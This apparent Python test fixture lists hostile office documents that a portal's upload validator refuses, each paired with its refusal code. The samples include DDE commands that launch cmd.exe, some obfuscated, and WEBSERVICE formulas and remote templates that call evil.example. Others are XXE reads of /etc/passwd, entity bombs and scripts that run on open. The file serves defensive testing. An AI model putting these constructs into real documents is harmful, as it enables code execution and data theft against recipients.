"""Word, Excel and LibreOffice documents nobody should publish: name → (what builds it, code of the refusal)."""

from tests.factories.documents import EXCEL, OLE, OPEN, WORD, W, docx, odt, relations, types, xlsx, zipped
from tests.tetouan_portal.lib.hostile_archives import chart_of, locked

BILLION = "".join(
    ['<!DOCTYPE x [<!ENTITY a0 "ha">', *(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)), "]>"]
)


def word_relations(kind, target, mode=""):
    return lambda: docx({"word/_rels/document.xml.rels": relations((kind, target, mode))})


def excel_relations(kind, target, mode=""):
    return lambda: xlsx({"xl/_rels/workbook.xml.rels": relations((kind, target, mode))})


def field(*codes):
    """A field, its code divided into runs."""
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return lambda: docx(body=f"<w:p>{begin}{runs}{end}</w:p>")


def typed(kind):
    return f'<Override PartName="/word/x.xml" ContentType="{kind}"/>'


ENCRYPTED = OLE + "EncryptedPackage".encode("utf-16-le")

WORD_AND_EXCEL = {
    "Word: macros": (lambda: docx({"word/vbaProject.bin": "x"}), "active"),
    "Excel: macros in capitals": (lambda: xlsx({"xl/VBAPROJECT.BIN": "x"}), "active"),
    "Word: macros under another name": (word_relations("vbaProject", "harmless.bin"), "active"),
    "Word: declared with macros": (
        lambda: docx(extra=typed("application/vnd.ms-word.document.macroEnabled")),
        "active",
    ),
    "Excel: sheet of old macros": (lambda: xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), "active"),
    "Word: control": (lambda: docx({"word/activeX/activeX1.xml": "<a/>"}), "active"),
    "Word: control by relation": (word_relations("control", "x.xml"), "active"),
    "Excel: own ribbon": (lambda: xlsx({"customUI/customUI.xml": "<a/>"}), "active"),
    "Word: program among the pictures": (lambda: docx({"word/media/image1.png": b"MZ\x90\0" + bytes(99)}), "active"),
    "Word: drawing with a script": (
        lambda: docx({"word/media/image1.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'}),
        "active",
    ),
    "Word: object of another program": (lambda: docx({"word/embeddings/oleObject1.bin": OLE}), "embedded"),
    "Word: object among the pictures": (lambda: docx({"word/media/image1.emf": OLE}), "embedded"),
    "Word: page inside the page": (word_relations("aFChunk", "x.xml"), "embedded"),
    "Word: archive inside": (lambda: docx({"word/media/image1.png": zipped({"a": "b"})}), "embedded"),
    "Word: script beside the text": (lambda: docx({"word/run.vbs": "CreateObject"}), "embedded"),
    "Word: chart with macros": (chart_of(lambda: xlsx({"xl/vbaProject.bin": "x"})), "active"),
    "Word: chart in a chart in a chart": (
        chart_of(lambda: xlsx({"xl/embeddings/a.xlsx": xlsx({"xl/embeddings/b.xlsx": xlsx()})})),
        "embedded",
    ),
    "Word: template from the web": (
        lambda: docx(
            {"word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://evil.example/t.dotm", "External"))}
        ),
        "external",
    ),
    "Word: template from a share": (
        word_relations("attachedTemplate", "file:///\\\\198.51.100.7\\t.dotm", "External"),
        "external",
    ),
    "Word: part of a document elsewhere": (word_relations("subDocument", "chapter.docx", "External"), "embedded"),
    "Word: extension of the web": (lambda: docx({"word/webextensions/webextension1.xml": "<a/>"}), "active"),
    "Word: picture from the web": (word_relations("image", "https://evil.example/seen.png", "External"), "external"),
    "Word: picture from the web, its mode unsaid": (word_relations("image", "http://evil.example/a.png"), "external"),
    "Word: link that is a script": (word_relations("hyperlink", "javascript:alert(1)", "External"), "link"),
    "Word: link to a share": (word_relations("hyperlink", "file://198.51.100.7/a", "External"), "link"),
    "Word: command in a field": (field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "field"),
    "Word: command in a divided field": (field("D", "DE", "AUTO", " cmd"), "field"),
    "Word: command in a short field": (lambda: docx(body='<w:fldSimple w:instr=" &#68;DE cmd "/>'), "field"),
    "Word: command in letters by number": (field("QUOTE 68 68 69 65 85 84 79"), "field"),
    "Word: picture in a field": (field('INCLUDEPICTURE "http://evil.example/a.png"'), "field"),
    "Excel: command in a cell": (lambda: xlsx(cells="<c><f>cmd|'/c calc'!A0</f></c>"), "reference"),
    "Excel: command, its sign spelled out": (lambda: xlsx(cells="<c><f>cmd|&#39;/c calc&#39;!A0</f></c>"), "reference"),
    "Excel: command in a sheet with a field": (
        lambda: xlsx(cells="<c><f>cmd|'/c calc'!A0</f><instrText>PAGE</instrText></c>"),
        "reference",
    ),
    "Excel: command under a name": (
        lambda: xlsx(defined="<definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames>"),
        "reference",
    ),
    "Excel: question to the web": (
        lambda: xlsx(cells='<c><f>_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)</f></c>'),
        "function",
    ),
    "Excel: command, its sign in a section": (
        lambda: xlsx(cells="<c><f><![CDATA[cmd|'/c calc'!A0]]></f></c>"),
        "reference",
    ),
    "Excel: question to the web, divided by a comment": (
        lambda: xlsx(cells='<c><f>WEB<!-- -->SERVICE("https://evil.example")</f></c>'),
        "function",
    ),
    "Excel: question to the web in letters by number": (
        lambda: xlsx(cells='<c><f>&#87;EBSERVICE("https://evil.example")</f></c>'),
        "function",
    ),
    "Word: command between two quotation marks": (
        lambda: docx(
            body="".join(
                f'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{code}</w:instrText></w:r>'
                for code in ('PAGE "', "DDEAUTO cmd", '"')
            )
        ),
        "field",
    ),
    "Word: command in a part elsewhere": (
        lambda: docx({"x/y.xml": f"<w:hdr {W}><w:fldSimple w:instr='DDE cmd'/></w:hdr>"}),
        "field",
    ),
    "Word: text under the name of a picture": (
        lambda: docx({"word/a.png": "<a/>"}, extra=typed(f"{WORD}.footer+xml").replace("x.xml", "a.png")),
        "disguised",
    ),
    "Word: relations in capitals": (
        lambda: docx({"word/_rels/DOCUMENT.XML.RELS": relations(("image", "http://evil.example/a.png", "External"))}),
        "external",
    ),
    "Word: XML in another encoding, undeclared": (
        lambda: docx({"word/header1.xml": f"<w:hdr {W}><w:fldSimple w:instr='DDE cmd'/></w:hdr>".encode("utf-16")}),
        "damaged",
    ),
    "Excel: other workbook": (excel_relations("externalLink", "externalLinks/externalLink1.xml"), "external"),
    "Excel: connection": (excel_relations("connections", "connections.xml"), "external"),
    "Word: entities by the billion": (lambda: docx(head=BILLION, body="&a9;"), "damaged"),
    "Word: entity from a file": (
        lambda: docx(head='<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', body="&a;"),
        "damaged",
    ),
    "Excel: entity in the relations": (
        lambda: xlsx({"xl/_rels/workbook.xml.rels": BILLION + relations()}),
        "damaged",
    ),
    "Word: XML cut off": (lambda: docx({"word/styles.xml": "<w:styles>"}), "damaged"),
    "Word: XML in another encoding": (
        lambda: docx({"word/styles.xml": '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16")}),
        "damaged",
    ),
    "Word: with a password": (lambda: ENCRYPTED, "encrypted"),
    "Word: a locked part": (locked, "encrypted"),
    "Word: declared by nobody": (lambda: zipped({"word/document.xml": "<a/>"}), "archive"),
    "Word: two documents in one": (
        lambda: docx(
            {"xl/workbook.xml": "<a/>"}, extra=f'<Override PartName="/xl/workbook.xml" ContentType="{EXCEL}.main+xml"/>'
        ),
        "not_accepted",
    ),
    "PowerPoint": (
        lambda: zipped(
            {
                "[Content_Types].xml": types(
                    "ppt/presentation.xml", WORD.replace("wordprocessingml.document", "presentationml.presentation")
                ),
                "ppt/presentation.xml": "<a/>",
            }
        ),
        "presentation",
    ),
}
LIBREOFFICE = {
    "LibreOffice: Basic": (lambda: odt({"Basic/script-lc.xml": "<a/>"}), "active"),
    "LibreOffice: Python": (lambda: odt({"Scripts/python/a.py": "import os"}), "active"),
    "LibreOffice: script when opened": (
        lambda: odt(
            scripts="<office:scripts><office:event-listeners><script:event-listener script:event-name='dom:load' "
            "xlink:href='vnd.sun.star.script:a.py$b'/></office:event-listeners></office:scripts>"
        ),
        "active",
    ),
    "LibreOffice: script behind a link": (
        lambda: odt(body='<text:a xlink:href="vnd.sun.star.script:&#97;$b?language=Python">a</text:a>'),
        "active",
    ),
    "LibreOffice: script behind a button": (
        lambda: odt({"Configurations2/toolbar/a.xml": f'<a {OPEN} xlink:href="macro:///Standard.a"/>'}),
        "active",
    ),
    "LibreOffice: picture from the web": (
        lambda: odt(body='<draw:image xlink:href="https://evil.example/seen.png"/>'),
        "external",
    ),
    "LibreOffice: picture from a share": (lambda: odt(body='<draw:image xlink:href="//198.51.100.7/a"/>'), "external"),
    "LibreOffice: text from a file": (
        lambda: odt(body='<text:section-source xlink:href="file:///etc/passwd"/>'),
        "external",
    ),
    "LibreOffice: template from the web": (
        lambda: odt({"meta.xml": f'<meta:template {OPEN} xlink:href="http://evil.example/a.ott"/>'}),
        "external",
    ),
    "LibreOffice: exchange with a program": (
        lambda: odt(body='<office:dde-source office:dde-application="cmd"/>'),
        "external",
    ),
    "LibreOffice: exchange in a formula": (
        lambda: odt(kind="spreadsheet", body='<table:table-cell table:formula=\'of:=DDE("cmd";"/c calc";"A")\'/>'),
        "function",
    ),
    "LibreOffice: window to elsewhere": (
        lambda: odt(body='<draw:floating-frame xlink:href="http://evil.example"/>'),
        "embedded",
    ),
    "LibreOffice: object of another program": (lambda: odt({"Object 1": OLE}), "embedded"),
    "LibreOffice: object behind its picture": (lambda: odt({"ObjectReplacements/Object 1": OLE}), "embedded"),
    "LibreOffice: with a password": (
        lambda: odt(
            {"META-INF/manifest.xml": f"<manifest:manifest {OPEN}><manifest:encryption-data/></manifest:manifest>"}
        ),
        "encrypted",
    ),
    "LibreOffice: entities by the billion": (lambda: odt({"styles.xml": BILLION + "<a>&a9;</a>"}), "damaged"),
    "LibreOffice: slides": (lambda: odt(kind="presentation"), "presentation"),
    "a book (EPUB)": (lambda: zipped({"mimetype": "application/epub+zip", "a.xml": "<a/>"}), "not_accepted"),
}

FILES = WORD_AND_EXCEL | LIBREOFFICE
